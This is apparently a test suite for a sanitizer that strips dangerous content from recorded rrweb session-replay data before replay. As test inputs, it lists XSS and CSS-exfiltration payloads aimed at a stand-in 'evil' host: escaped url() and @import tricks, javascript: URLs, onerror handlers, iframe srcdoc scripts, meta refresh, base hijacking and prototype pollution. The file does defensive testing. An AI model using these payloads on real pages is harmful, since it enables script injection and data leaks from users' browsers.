import { expect, test } from 'vitest'
import { RR_NODE, RR_SOURCE, RR_TYPE } from '../../wire/rrweb.ts'
import { PREFIX, cleanAttributes } from './attributes.ts'
import { cleanCss } from './css.ts'
import { cleanEvent } from './events.ts'
import type { Standing } from './events.ts'
import { MAX_DEPTH, cleanNode, cleanTag } from './nodes.ts'
import { runs } from './urls.ts'

const LOADED = /https?:|\/\/evil|@import/i

test.each([
  'a{background:url(http://evil/x)}',
  'a{background:url( "http://evil/x" )}',
  "a{background:URL('//evil/x')}",
  'a{background:u\\72l(http://evil/x)}',
  'a{background:\\75\\000072 l(http://evil/x)}',
  'a{background:url(ht\\74p://evil/x)}',
  'a{background:image-set("http://evil/x" 1x, url(http://evil/y) 2x)}',
  'a{background:-webkit-image-set(url(http://evil/x) 1x)}',
  'a{background:cross-fade(url(http://evil/x), red)}',
  'a{background:src("http://evil/x")}',
  'a{--x:url(http://evil/x)}',
  '@import "http://evil/x";',
  '@import url(http://evil/x) screen;',
  '@\\69mport "http://evil/x";',
  '@IMPORT"//evil/x"',
  '@font-face{font-family:a;src:url(http://evil/x) format("woff2")}',
  'input[value^=a]{background:url(http://evil/a)}',
  'a{cursor:url(http://evil/x),auto}',
  'a{content:"\\"}" url(http://evil/x)}',
  'a{/*"*/background:url(http://evil/x)}',
  'a{background:url(http://evil/x',
  'a{background:url("http://evil/x',
  'a{background:url(/*x*/http://evil/x)}',
  'a{background:url(//evil/x)}',
])('CSS that loads: %s', (css) => {
  expect(cleanCss(css)).not.toMatch(LOADED)
})

test.each([
  'a{color:red}',
  '.sm\\:p-4:hover{margin:0}',
  'a{background:url(data:image/png;base64,AA==)}',
  'a{fill:url(#grad)}',
  'a::before{content:"http://not.a.url/ @import url("}',
  '/* @import "http://evil" url(http://evil) */ a{}',
  '@namespace svg url(http://www.w3.org/2000/svg);a{}',
  '@media (min-width:1px){a{background:image(red)}}',
  'a{font-family:"url(";b:c}',
  'a{width:calc(1px + (2px))}',
])('CSS that stays as it is: %s', (css) => {
  expect(cleanCss(css)).toBe(css)
})

test('an import goes, what follows stays', () => {
  expect(cleanCss('@import url("http://evil/a;b.css");a{color:red}')).toBe('a{color:red}')
})

test.each(['javascript:alert(1)', ' JaVaScRiPt:x', 'java\nscript:x', '\u0001javascript:x', 'vbscript:x', 'data:text/html,<script>', 'data:image/svg+xml,<svg>'])('%s runs', (url) => {
  expect(runs(url)).toBe(true)
})

test.each(['https://a/?javascript:', '/javascript:', '#javascript:', 'mailto:a@b', 'data:image/png;base64,AA'])('%s does not run', (url) => {
  expect(runs(url)).toBe(false)
})

const HOSTILE: [string, Record<string, unknown>][] = [
  ['img', { src: 'http://evil/x', onerror: 'x()' }],
  ['img', { srcset: 'http://evil/x 1x' }],
  ['body', { onload: 'x()', background: 'http://evil/x' }],
  ['a', { href: 'javascript:x()', ping: 'http://evil' }],
  ['a', { 'xlink:href': 'javascript:x()' }],
  ['iframe', { src: 'http://evil', srcdoc: '<script>x()</script>', sandbox: 'allow-scripts' }],
  ['form', { action: 'http://evil' }],
  ['button', { formaction: 'javascript:x()' }],
  ['meta', { 'http-equiv': 'refresh', content: '0;url=http://evil' }],
  ['base', { href: 'http://evil/' }],
  ['link', { rel: 'stylesheet', href: 'http://evil/x.css' }],
  ['link', { rel: 'preconnect', href: 'http://evil' }],
  ['link', { rel: 'icon', href: 'data:image/png;base64,AA' }],
  ['video', { src: 'http://evil/v', poster: 'http://evil/p' }],
  ['use', { href: 'http://evil/x.svg#a' }],
  ['image', { 'xlink:href': 'http://evil/x' }],
  ['animate', { attributeName: 'href', values: 'javascript:x()' }],
  ['set', { attributeName: 'onload', to: 'x()' }],
  ['input', { type: 'image', src: 'http://evil/x' }],
  ['div', { style: 'background:url(http://evil/x)' }],
  ['rect', { fill: 'url(http://evil/x#a)' }],
  ['script', { src: 'http://evil/x.js' }],
  ['img', { rr_dataURL: 'http://evil/x' }],
  ['canvas', { rr_dataURL: 'data:text/html,x' }],
  ['style', { _cssText: '@import "http://evil"' }],
  ['object', { data: 'http://evil/x' }],
  ['div', { 'a b': 'x', 'x"y': 'x', nested: { a: 1 } }],
]

test.each(HOSTILE)('%s %j neither runs nor loads', (tag, attributes) => {
  const clean = cleanAttributes(tag, attributes)
  for (const [name, value] of Object.entries(clean)) {
    if (name.startsWith(PREFIX)) continue
    expect(name).not.toMatch(/^on|^srcdoc$|^ping$|[\s"]/i)
    // Without `http-equiv`, or without a target, these mean nothing.
    if ((tag === 'meta' && name === 'content') || (tag === 'set' && name === 'to')) continue
    expect(String(value)).not.toMatch(/evil|javascript:|text\/html|x\(\)/)
  }
  if (tag === 'iframe') expect(clean['sandbox']).toBe('allow-same-origin')
  if (tag === 'meta') expect(clean['http-equiv'] ?? null).toBeNull()
  if (tag === 'animate' || tag === 'set') expect(clean['attributename'] ?? clean['attributeName'] ?? null).toBeNull()
})

test('what does no harm stays', () => {
  const plain = { class: 'a', href: 'https://shop/x', 'data-sl-mask': '', 'aria-label': 'javascript: a book', value: 'javascript:', checked: true, tabindex: '0' }
  expect(cleanAttributes('a', plain)).toEqual(plain)
})

test('__proto__ is an attribute like any other', () => {
  const clean = cleanAttributes('div', JSON.parse('{"__proto__": {"x": 1}, "id": "a"}'))
  expect(clean).toEqual({ id: 'a' })
  expect(({} as Record<string, unknown>)['x']).toBeUndefined()
})

test.each([['script', 'noscript'], ['SCRIPT', 'noscript'], ['object', 'sl-object'], ['Embed', 'sl-embed'], ['a b', 'div'], ['<x', 'div'], ['', 'div'], ['my-app', 'my-app'], ['linearGradient', 'linearGradient']])('tag %s becomes %s', (tag, clean) => {
  expect(cleanTag(tag)).toBe(clean)
})

const element = (id: number, tagName: string, childNodes: unknown[] = [], more = {}) => ({ type: RR_NODE.element, id, tagName, attributes: {}, childNodes, ...more })

test('the text of scripts goes, that of styles is cleaned', () => {
  const budget = { nodes: 100 }
  expect(cleanNode(element(1, 'script', [{ type: 3, id: 2, textContent: 'x()' }]), budget)?.childNodes).toEqual([])
  const style = cleanNode(element(3, 'style', [{ type: 3, id: 4, textContent: '@import "http://evil";a{}' }]), budget)
  expect(style?.childNodes?.[0]?.textContent).toBe('a{}')
})

test('depth and number of nodes are bounded', () => {
  let deep: unknown = element(1, 'b')
  for (let id = 2; id < MAX_DEPTH + 100; id++) deep = element(id, 'b', [deep])
  let depth = 0
  for (let node = cleanNode(deep, { nodes: 10_000 }); node; node = node.childNodes?.[0] ?? null) depth++
  expect(depth).toBe(MAX_DEPTH + 1)
  const wide = element(1, 'ul', Array.from({ length: 50 }, (_, i) => element(i + 2, 'li')))
  expect(cleanNode(wide, { nodes: 11 })?.childNodes).toHaveLength(10)
})

test.each([['font-face', false], ['x-y', true], ['X-Y', false], ['a', false]])('custom element %s: %s', (tag, defined) => {
  expect(cleanNode(element(1, tag, [], { isCustom: true }), { nodes: 1 })?.isCustom ?? false).toBe(defined)
})

const tags = new Map([[1, 'body'], [2, 'style'], [3, 'iframe'], [4, 'img']])
const standing: Standing = { tagOf: (id) => tags.get(id), parentTagOf: (id) => (id === 9 ? 'style' : 'p'), depthOf: () => 3, nodes: 4 }
const incremental = (data: object) => cleanEvent({ type: RR_TYPE.incremental, data, timestamp: 1 }, standing)?.data as Record<string, never> | undefined

test('a mutation is cleaned by the tags that stand and those it adds', () => {
  const data = incremental({
    source: RR_SOURCE.mutation,
    adds: [
      { parentId: 2, nextId: null, node: { type: 3, id: 10, textContent: '@import "http://evil";b{}' } },
      { parentId: 1, nextId: null, node: element(11, 'link') },
      { parentId: 'x', nextId: null, node: element(12, 'b') },
    ],
    removes: [{ id: 5, parentId: 1 }, { id: 'x' }],
    texts: [{ id: 9, value: 'a{background:url(http://evil)}' }, { id: 20, value: 'url(http://fine)' }],
    attributes: [
      { id: 3, attributes: { src: 'http://evil', srcdoc: 'x' } },
      { id: 11, attributes: { href: 'http://evil' } },
      { id: 4, attributes: { onerror: 'x()', style: { background: 'url(http://evil)', color: ['red', 'important'], left: false } } },
      { id: 99, attributes: { id: 'unknown' } },
    ],
  })
  const { adds, removes, texts, attributes } = data as unknown as Record<string, Record<string, unknown>[]>
  expect(adds).toHaveLength(2)
  expect(adds?.[0]?.['node']).toMatchObject({ textContent: 'b{}' })
  expect(removes).toEqual([{ id: 5, parentId: 1 }])
  expect(texts?.[0]?.['value']).not.toMatch(LOADED)
  expect(texts?.[1]?.['value']).toBe('url(http://fine)')
  expect(attributes?.map((change) => change['id'])).toEqual([3, 11, 4])
  const applied = JSON.stringify(attributes, (key, value: unknown) => (key.startsWith(PREFIX) ? undefined : value))
  expect(applied).not.toMatch(/evil|onerror|srcdoc/)
  expect(attributes?.[2]?.['attributes']).toMatchObject({ style: { color: ['red', 'important'], left: false } })
})

test.each([RR_SOURCE.canvasMutation, RR_SOURCE.mouseMove, RR_SOURCE.mouseInteraction, RR_SOURCE.customElement, 99])('source %s does not reach the replayer', (source) => {
  expect(incremental({ source, id: 1, positions: [] })).toBeUndefined()
})

test.each([null, 'x', 1, [], { type: 2 }, { source: 'x' }, { source: 8, id: 1, adds: 'x' }])('nonsense %j does not throw', (data) => {
  for (const type of [0, 1, 2, 3, 4, 5, 6, 99]) cleanEvent({ type, data, timestamp: Number.NaN }, standing)
})

test('a sheet rule is cleaned, a font only comes from data', () => {
  expect(JSON.stringify(incremental({ source: 8, id: 2, adds: [{ rule: 'a{background:url(http://evil)}', index: 0 }] }))).not.toMatch(LOADED)
  expect(incremental({ source: 10, family: 'a', fontSource: 'url(http://evil)', buffer: false })).toBeUndefined()
  expect(incremental({ source: 10, family: 'a', fontSource: '[1,2]', buffer: true })).toBeDefined()
})
